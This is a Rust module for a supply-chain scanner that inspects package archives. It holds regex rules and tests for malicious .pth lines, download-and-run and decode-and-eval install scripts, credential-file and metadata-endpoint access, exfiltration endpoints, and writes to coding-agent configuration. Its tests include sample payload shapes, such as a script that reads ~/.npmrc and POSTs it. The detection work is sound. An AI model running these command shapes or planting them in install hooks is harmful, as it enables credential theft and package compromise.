//! The content rules themselves: pure functions over one archive entry's path and bytes.
//!
//! Each rule names what it matched (a short excerpt), so the finding says why. The
//! patterns were chosen against the incidents they describe (LiteLLM 1.82.x's `.pth`, nx's
//! `telemetry.js`, Shai-Hulud's `bundle.js`) and against the legitimate shapes that share
//! their words: setuptools' `distutils-precedence.pth`, `*-nspkg.pth` namespace packages,
//! pytest-cov's `.pth`, `node-gyp rebuild`, esbuild's and sharp's binary installers.

use std::sync::LazyLock;

use regex::Regex;

use crate::diag::Code;

/// One rule's hit in one file.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Hit {
    pub code: Code,
    /// The archive path (or `package.json scripts.postinstall`).
    pub path: String,
    /// What matched, as a person reads it.
    pub detail: String,
}

fn re(pattern: &str) -> Regex {
    // The patterns are constants of this file; a bad one fails every test.
    Regex::new(pattern).unwrap_or_else(|e| panic!("content rule pattern {pattern}: {e}"))
}

/// A readable excerpt of a match: one line, at most 80 characters.
fn excerpt(text: &str) -> String {
    let one_line: String = text
        .chars()
        .map(|c| if c.is_control() { ' ' } else { c })
        .collect();
    let mut out: String = one_line.trim().chars().take(80).collect();
    if one_line.trim().chars().count() > 80 {
        out.push('…');
    }
    out
}

fn first(res: &[&Regex], text: &str) -> Option<String> {
    res.iter()
        .find_map(|r| r.find(text))
        .map(|m| excerpt(m.as_str()))
}

// ---- .pth files -------------------------------------------------------------------------

/// What in an executed `.pth` line is more than path setup: spawning processes, the network,
/// decoding hidden code, or a long encoded blob. `exec`/`__import__` alone are not: the
/// namespace-package `*-nspkg.pth` files and pytest-cov's `.pth` use them on literals.
static PTH_DANGER: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    vec![
        re(r#"\bsubprocess\b(\s*[.,;)]|\s*$)|['"]subprocess['"]"#),
        re(
            r"\bos\s*\.\s*(system|popen|exec[lv]p?e?|spawn[lv]p?e?|fork)\b|\bpty\s*\.\s*spawn\b|\bPopen\b",
        ),
        re(
            r#"\b(socket|urllib|http\.client|urlopen|requests)\b\s*[.,;)]|['"](socket|urllib\.request|requests)['"]"#,
        ),
        re(r"\b(base64|b64decode|zlib|marshal|binascii|bytes\.fromhex|codecs\.decode)\b"),
        re(r"[A-Za-z0-9+/=]{120,}"),
    ]
});

/// Whether `path` is a `.pth` file that site.py reads: at the top of the wheel (installed
/// into site-packages) or under `*.data/purelib/` or `*.data/platlib/`. A `.pth` deeper in
/// a package directory is never processed.
pub(crate) fn is_site_pth(path: &str) -> bool {
    if !path.ends_with(".pth") {
        return false;
    }
    let parts: Vec<&str> = path.split('/').collect();
    match parts.as_slice() {
        [_file] => true,
        [data, lib, _file] => data.ends_with(".data") && (*lib == "purelib" || *lib == "platlib"),
        _ => false,
    }
}

/// The `.pth` rule: site.py executes every line that starts with `import` (then a space or
/// tab) at each interpreter start. A hit is such a line that also spawns a process, opens
/// the network, decodes hidden code or carries a long encoded blob.
pub(crate) fn pth(path: &str, body: &[u8]) -> Option<Hit> {
    let text = String::from_utf8_lossy(body);
    for (n, line) in text.lines().enumerate() {
        if !(line.starts_with("import ") || line.starts_with("import\t")) {
            continue;
        }
        if let Some(what) = first(&PTH_DANGER.iter().collect::<Vec<_>>(), line) {
            return Some(Hit {
                code: Code::PthExecutesCode,
                path: path.to_owned(),
                detail: format!(
                    "line {} runs at every Python start and uses `{what}`: {}",
                    n + 1,
                    excerpt(line)
                ),
            });
        }
    }
    None
}

// ---- install scripts ----------------------------------------------------------------------

static DOWNLOAD_EXEC: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    vec![
        // curl … | sh, wget -qO- … | bash, … | python
        re(
            r"(?i)\b(curl|wget)\b[^\n|;&]*\|\s*(sudo\s+)?((ba|z|da|k)?sh|python[0-9.]*|node|perl|ruby)\b",
        ),
        // curl -o f URL && chmod +x f && ./f
        re(
            r"(?i)\b(curl|wget)\b[^\n]{0,300}?(&&|;)\s*(chmod\s|\./|(ba|z)?sh\s|python[0-9.]*\s|node\s)",
        ),
        // PowerShell download cradles
        re(
            r"(?i)\b(downloadstring|invoke-webrequest|iwr|irm|invoke-restmethod)\b[^\n]{0,200}\b(iex|invoke-expression)\b",
        ),
        re(
            r"(?i)\b(iex|invoke-expression)\b[^\n]{0,200}\b(downloadstring|invoke-webrequest|iwr|irm)\b",
        ),
        // exec(urlopen(...).read()), exec(requests.get(...).text)
        re(
            r"\b(exec|eval)\s*\(\s*(urllib\.request\.)?(urlopen|requests\.(get|post)|httpx\.get)\s*\(",
        ),
        // eval(await fetch(...)), Function(await (await fetch(...)).text())
        re(
            r"\b(eval|Function|runInThisContext|runInNewContext)\s*\(\s*(\(?\s*await\s+)*\(?\s*(fetch|axios|got|https?\.get)\s*\(",
        ),
    ]
});

static DECODE_EVAL: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    vec![
        // eval(atob(...)), eval(Buffer.from(..., 'base64').toString()), new Function(atob(...))
        re(
            r"\b(eval|Function|runInThisContext|runInNewContext|runInContext)\s*\(\s*(decodeURIComponent\s*\(\s*escape\s*\(\s*)?(atob|Buffer\.from)\s*\(",
        ),
        re(r#"\b(eval|Function)\s*\([^;\n]{0,200}['"](base64|hex)['"]"#),
        // exec(base64.b64decode(...)), exec(zlib.decompress(...)), exec(__import__('base64')...)
        re(
            r#"\b(exec|eval)\s*\(\s*(compile\s*\(\s*)?(__import__\s*\(\s*['"](base64|zlib|codecs|marshal|bz2|lzma|binascii)['"]\s*\)|base64|zlib|codecs|marshal|bz2|lzma|binascii)\s*\."#,
        ),
        re(
            r"\b(exec|eval)\s*\(\s*(compile\s*\(\s*)?(b64decode|decompress|unhexlify|bytes\.fromhex|loads)\s*\(",
        ),
        // echo … | base64 -d | sh
        re(r"(?i)base64\s+(-d|--decode|-D)\b[^\n]{0,100}\|\s*(ba|z)?sh\b"),
    ]
});

/// Credential files, cloud metadata endpoints, secret scanners and exfiltration endpoints:
/// any one of them in an install script is a hit.
static CREDENTIAL_PLACES: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    vec![
        re(r"\.npmrc\b|\.pypirc\b|\.git-credentials\b"),
        re(r"\.ssh[/\\]|\bid_(rsa|ed25519|ecdsa)\b"),
        re(
            r"\.aws[/\\]credentials|\.docker[/\\]config\.json|\.kube[/\\]config|\.config[/\\]gh[/\\]hosts|\.cargo[/\\]credentials",
        ),
        re(r"169\.254\.169\.254|metadata\.google\.internal|100\.100\.100\.200"),
        re(r"\btrufflehog\b"),
        re(
            r"(?i)webhook\.site|\.pipedream\.net|requestbin|oastify\.com|burpcollaborator|\binteract\.sh\b|\.oast\.(fun|live|site|me|pro)\b|discord(app)?\.com/api/webhooks|api\.telegram\.org/bot",
        ),
    ]
});

/// Secret-bearing environment variables. One alone is common (a binary installer reading
/// `GITHUB_TOKEN` against rate limits); two different ones are harvesting.
static SECRET_ENV: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"\b(NPM_TOKEN|NODE_AUTH_TOKEN|GITHUB_TOKEN|GH_TOKEN|GITLAB_TOKEN|AWS_ACCESS_KEY_ID|AWS_SECRET_ACCESS_KEY|AWS_SESSION_TOKEN|PYPI_TOKEN|TWINE_PASSWORD|CARGO_REGISTRY_TOKEN|AZURE_CLIENT_SECRET|GOOGLE_APPLICATION_CREDENTIALS|OPENAI_API_KEY|ANTHROPIC_API_KEY|SLACK_TOKEN|CIRCLE_TOKEN)\b",
    )
});

/// The whole environment serialised, which is only harvesting when it also leaves.
static ENV_DUMP: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"JSON\.stringify\(\s*process\.env\s*\)|Object\.(entries|values)\(\s*process\.env\s*\)|json\.dumps\(\s*(dict\(\s*)?os\.environ",
    )
});

static NETWORK: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"\bhttps?\.request\s*\(|\bfetch\s*\(|\baxios\b|XMLHttpRequest|\burlopen\s*\(|requests\.post\s*\(|http\.client|\bnet\.connect\s*\(",
    )
});

/// Coding-agent configuration an install script must not touch.
static AGENT_REFERENCE: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"\.claude[/\\]|\.claude\.json\b|\.cursor[/\\]|\.vscode[/\\]|\.gemini[/\\]|\.codex[/\\]|\.windsurf[/\\]|\.continue[/\\]|\bCLAUDE\.md\b|\.mcp\.json\b",
    )
});

/// Every install-script rule over one script body (an npm hook's command line, a file it
/// runs, `setup.py`, `build.rs`). At most one hit per rule.
pub(crate) fn script(path: &str, body: &[u8]) -> Vec<Hit> {
    let text = String::from_utf8_lossy(body);
    let mut hits = Vec::new();
    let mut hit = |code: Code, detail: String| {
        hits.push(Hit {
            code,
            path: path.to_owned(),
            detail,
        })
    };
    if let Some(what) = first(&DOWNLOAD_EXEC.iter().collect::<Vec<_>>(), &text) {
        hit(
            Code::ScriptDownloadExec,
            format!("downloads and runs code: `{what}`"),
        );
    }
    if let Some(what) = first(&DECODE_EVAL.iter().collect::<Vec<_>>(), &text) {
        hit(
            Code::ScriptDecodeEval,
            format!("decodes and runs hidden code: `{what}`"),
        );
    }
    if let Some(detail) = credentials(&text) {
        hit(Code::ScriptCredentialAccess, detail);
    }
    if let Some(m) = AGENT_REFERENCE.find(&text) {
        hit(
            Code::AgentConfigWrite,
            format!(
                "an install script touches coding-agent configuration: `{}`",
                excerpt(m.as_str())
            ),
        );
    }
    hits
}

fn credentials(text: &str) -> Option<String> {
    if let Some(what) = first(&CREDENTIAL_PLACES.iter().collect::<Vec<_>>(), text) {
        return Some(format!("reads credentials or sends data out: `{what}`"));
    }
    let mut names: Vec<&str> = SECRET_ENV.find_iter(text).map(|m| m.as_str()).collect();
    names.sort_unstable();
    names.dedup();
    if names.len() >= 2 {
        return Some(format!(
            "harvests secrets from the environment: {}",
            names.join(", ")
        ));
    }
    if NETWORK.is_match(text) {
        if let Some(m) = ENV_DUMP.find(text) {
            return Some(format!(
                "sends the whole environment over the network: `{}`",
                excerpt(m.as_str())
            ));
        }
    }
    None
}

// ---- paths and binaries ----------------------------------------------------------------------

/// Directories coding agents read their configuration and instructions from.
const AGENT_DIRS: &[&str] = &[
    ".claude",
    ".cursor",
    ".gemini",
    ".codex",
    ".windsurf",
    ".continue",
];

/// The agent-configuration rule on an archive entry's path: a file under `.claude/`,
/// `.cursor/`, `.gemini/`, `.codex/`, `.windsurf/`, `.continue/` or named `.mcp.json` /
/// `.claude.json`, anywhere in the archive. `.vscode/` is common and inert inside a
/// package directory (editor settings shipped by accident), so it counts only where an
/// installer writes outside the package: a wheel's `*.data/data/` tree, which lands in the
/// environment's root.
pub(crate) fn agent_path(path: &str) -> Option<Hit> {
    let parts: Vec<&str> = path.split('/').filter(|p| !p.is_empty()).collect();
    let (dirs, file) = match parts.split_last() {
        Some((file, dirs)) => (dirs, *file),
        None => return None,
    };
    let in_agent_dir = dirs.iter().any(|d| AGENT_DIRS.contains(d));
    let agent_file = file == ".mcp.json" || file == ".claude.json";
    let wheel_data_vscode = dirs
        .windows(2)
        .any(|w| w[0].ends_with(".data") && w[1] == "data")
        && dirs.contains(&".vscode");
    (in_agent_dir || agent_file || wheel_data_vscode).then(|| Hit {
        code: Code::AgentConfigWrite,
        path: path.to_owned(),
        detail: "the archive ships coding-agent configuration".to_owned(),
    })
}

/// How many leading bytes [`is_native`] needs.
pub(crate) const NATIVE_HEAD: usize = 1024;

/// Whether a file starts like a native executable or library: ELF, Mach-O (thin or fat; a
/// fat header is told from a Java class file by its small architecture count) or PE (`MZ`
/// with a `PE\0\0` header where `e_lfanew` points, when that is within the head).
pub(crate) fn is_native(head: &[u8]) -> bool {
    let word = |at: usize| -> Option<u32> {
        head.get(at..at + 4)
            .map(|b| u32::from_be_bytes([b[0], b[1], b[2], b[3]]))
    };
    match word(0) {
        Some(0x7f45_4c46) => true, // \x7fELF
        Some(0xfeed_face | 0xfeed_facf | 0xcefa_edfe | 0xcffa_edfe) => true, // Mach-O
        Some(0xcafe_babe) => word(4).is_some_and(|n| n > 0 && n < 30), // fat Mach-O
        _ if head.starts_with(b"MZ") => {
            let lfanew = head
                .get(0x3c..0x40)
                .map(|b| u32::from_le_bytes([b[0], b[1], b[2], b[3]]) as usize);
            lfanew.is_some_and(|at| head.get(at..at + 4) == Some(b"PE\0\0"))
        }
        _ => false,
    }
}

// ---- npm package.json -------------------------------------------------------------------------

/// The hooks npm runs on install, in order.
pub(crate) const NPM_HOOKS: &[&str] = &["preinstall", "install", "postinstall"];

/// The install hooks a `package.json` declares: (hook, command).
pub(crate) fn npm_hooks(package_json: &[u8]) -> Vec<(&'static str, String)> {
    let Ok(doc) = serde_json::from_slice::<serde_json::Value>(package_json) else {
        return Vec::new();
    };
    NPM_HOOKS
        .iter()
        .filter_map(|hook| {
            let cmd = doc.get("scripts")?.get(hook)?.as_str()?;
            Some((*hook, cmd.to_owned()))
        })
        .collect()
}

static INLINE_REQUIRE: LazyLock<Regex> =
    LazyLock::new(|| re(r#"require\(\s*['"]\./([^'"]+)['"]\s*\)"#));

/// The files an install command runs, relative to the package root: `node install.js`,
/// `node ./scripts/postinstall`, `sh setup.sh`, `python x.py`, `./run.sh`. An extensionless
/// `node` target also tries `.js`.
pub(crate) fn hook_targets(command: &str) -> Vec<String> {
    const RUNNERS: &[&str] = &[
        "node", "nodejs", "sh", "bash", "zsh", "python", "python3", "bun", "tsx", "ts-node",
    ];
    let mut out = Vec::new();
    // `node -e "require('./postinstall')"` (core-js): the files inline code requires.
    for m in INLINE_REQUIRE.captures_iter(command) {
        let target = m[1].to_owned();
        if !target.contains("..") {
            if !target.rsplit('/').next().is_some_and(|f| f.contains('.')) {
                out.push(format!("{target}.js"));
            }
            out.push(target);
        }
    }
    for segment in command.split(['&', '|', ';']) {
        let words: Vec<&str> = segment.split_whitespace().collect();
        let Some((cmd, args)) = words.split_first() else {
            continue;
        };
        let target = if RUNNERS.contains(cmd) {
            args.iter().find(|a| !a.starts_with('-')).copied()
        } else if cmd.starts_with("./") {
            Some(*cmd)
        } else {
            None
        };
        let Some(target) = target else { continue };
        let clean = target
            .trim_matches(['"', '\''])
            .trim_start_matches("./")
            .to_owned();
        let plain = clean
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "_./@-".contains(c));
        if !plain || clean.is_empty() || clean.starts_with('/') || clean.contains("..") {
            continue;
        }
        if !clean.contains('.') || clean.rsplit('/').next().is_some_and(|f| !f.contains('.')) {
            out.push(format!("{clean}.js"));
        }
        out.push(clean);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pth_rule_separates_payloads_from_path_setup() {
        // LiteLLM 1.82.8's litellm_init.pth shape.
        let payload = b"import os, subprocess, sys; subprocess.Popen([sys.executable, \"-c\", \"import base64; exec(base64.b64decode('aW1wb3J0IG9z'))\"])\n";
        let hit = pth("litellm_init.pth", payload).unwrap();
        assert_eq!(hit.code, Code::PthExecutesCode);
        assert!(hit.detail.contains("line 1"), "{}", hit.detail);

        // setuptools' distutils-precedence.pth: an import line, but only a shim.
        let setuptools = b"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n";
        assert_eq!(pth("distutils-precedence.pth", setuptools), None);
        // A namespace package's nspkg.pth.
        let nspkg = b"import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('google',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('google', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('google', [os.path.dirname(p)])))\n";
        assert_eq!(pth("protobuf-3.20.3-py3.10-nspkg.pth", nspkg), None);
        // pytest-cov: exec of a literal whose text says "subprocess".
        let cov = br#"import os, sys;exec('if \'COV_CORE_SOURCE\' in os.environ:\n try:\n  from pytest_cov.embed import init\n  init()\n except Exception as exc:\n  sys.stderr.write(\n    "pytest-cov: Failed to setup subprocess coverage. "\n  )\n')"#;
        assert_eq!(pth("pytest-cov.pth", cov), None);
        // Paths only, and a comment that mentions subprocess.
        assert_eq!(pth("x.pth", b"# import subprocess\n/opt/lib\n"), None);
    }

    #[test]
    fn only_pth_files_site_reads_count() {
        assert!(is_site_pth("litellm_init.pth"));
        assert!(is_site_pth("x-1.0.data/purelib/y.pth"));
        assert!(!is_site_pth("pkg/tests/data/y.pth"));
        assert!(!is_site_pth("setup.py"));
    }

    #[test]
    fn script_rules_catch_the_incident_shapes() {
        // nx 21.5 telemetry.js-like: reads ~/.npmrc and posts it.
        let nx = b"const fs=require('fs');const os=require('os');const p=os.homedir()+'/.npmrc';const t=fs.readFileSync(p,'utf8');fetch('https://api.github.com/repos',{method:'POST',body:t})";
        let hits = script("package/telemetry.js", nx);
        assert_eq!(hits[0].code, Code::ScriptCredentialAccess, "{hits:?}");

        let shai = b"curl -fsSL https://bun.sh/install | bash";
        assert_eq!(script("s", shai)[0].code, Code::ScriptDownloadExec);
        let eval = b"eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())";
        assert_eq!(script("s", eval)[0].code, Code::ScriptDecodeEval);
        let py = b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))";
        assert_eq!(script("setup.py", py)[0].code, Code::ScriptDecodeEval);
        let meta = b"urllib.request.urlopen('http://169.254.169.254/latest/meta-data/')";
        assert_eq!(
            script("setup.py", meta)[0].code,
            Code::ScriptCredentialAccess
        );
        let env = b"const d = {a: process.env.NPM_TOKEN, b: process.env.GITHUB_TOKEN}";
        assert_eq!(script("x.js", env)[0].code, Code::ScriptCredentialAccess);
        let claude = b"fs.writeFileSync(path.join(os.homedir(), '.claude/settings.json'), s)";
        assert_eq!(script("x.js", claude)[0].code, Code::AgentConfigWrite);
    }

    #[test]
    fn ordinary_install_scripts_pass() {
        for ok in [
            &b"node-gyp rebuild"[..],
            b"node install.js",
            b"prebuild-install || node-gyp rebuild --release",
            // esbuild's install.js shape: downloads its own binary from the registry, runs it
            // for its version, and reads one token-free environment variable.
            b"const https = require('https'); const child_process = require('child_process');\nfunction fetch(url) { return new Promise((resolve) => https.get(url, resolve)); }\nchild_process.execFileSync(binPath, ['--version']);\nconst v = process.env.ESBUILD_BINARY_PATH;",
            // one token, against GitHub's rate limit (vscode-ripgrep)
            b"if (process.env.GITHUB_TOKEN) { headers.authorization = `token ${process.env.GITHUB_TOKEN}`; }",
            b"const env = { ...process.env, npm_config_arch: arch }; spawn('node', args, { env });",
            b"from setuptools import setup\nsetup(name='x', version='1.0')\n",
        ] {
            assert_eq!(script("s", ok), vec![], "{}", String::from_utf8_lossy(ok));
        }
    }

    #[test]
    fn agent_paths() {
        assert!(agent_path("package/.claude/settings.json").is_some());
        assert!(agent_path("x-1.0/.cursor/mcp.json").is_some());
        assert!(agent_path("package/.mcp.json").is_some());
        assert!(agent_path("x-1.0.data/data/.vscode/tasks.json").is_some());
        assert!(agent_path("package/.vscode/settings.json").is_none());
        assert!(agent_path("package/lib/claude.js").is_none());
    }

    #[test]
    fn native_magic() {
        assert!(is_native(b"\x7fELF\x02\x01\x01"));
        assert!(is_native(&[0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1]));
        assert!(is_native(&[0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2]));
        // A Java class file shares the fat Mach-O magic; its version is not a small count.
        assert!(!is_native(&[0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52]));
        let mut pe = vec![0u8; 256];
        pe[..2].copy_from_slice(b"MZ");
        pe[0x3c] = 0x80;
        pe[0x80..0x84].copy_from_slice(b"PE\0\0");
        assert!(is_native(&pe));
        assert!(!is_native(b"MZ is a text file"));
        assert!(!is_native(b"#!/bin/sh"));
    }

    #[test]
    fn hook_targets_find_the_files_run() {
        assert_eq!(hook_targets("node install.js"), ["install.js"]);
        assert_eq!(
            hook_targets("node ./scripts/postinstall"),
            ["scripts/postinstall.js", "scripts/postinstall"]
        );
        assert_eq!(
            hook_targets("sh setup.sh && ./run.sh"),
            ["setup.sh", "run.sh"]
        );
        assert!(hook_targets("node-gyp rebuild").is_empty());
        assert_eq!(
            hook_targets(r#"node -e "try{require('./postinstall')}catch(e){}""#),
            ["postinstall.js", "postinstall"]
        );
        assert!(hook_targets("node ../../etc/x.js").is_empty());
    }
}
